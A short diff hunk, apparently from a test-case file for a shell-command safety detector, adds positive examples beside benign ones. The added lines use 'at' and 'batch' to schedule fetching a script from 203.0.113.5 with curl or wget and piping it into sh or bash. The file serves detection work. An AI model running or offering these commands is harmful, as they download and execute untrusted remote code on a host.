@@ -93,3 +93,7 @@ curl -o data.json https://example.com/data.json
 cat data.json
 #@ neg command -v only checks that curl exists
 if command -v curl >/dev/null 2>&1; then echo yes; fi | sh
+#@ pos at runs a downloaded script later, from a here-string
+at now <<< 'curl -s http://203.0.113.5/s | sh'
+#@ pos batch reads the same from a pipe
+echo 'wget -qO- http://203.0.113.5/s | bash' | batch
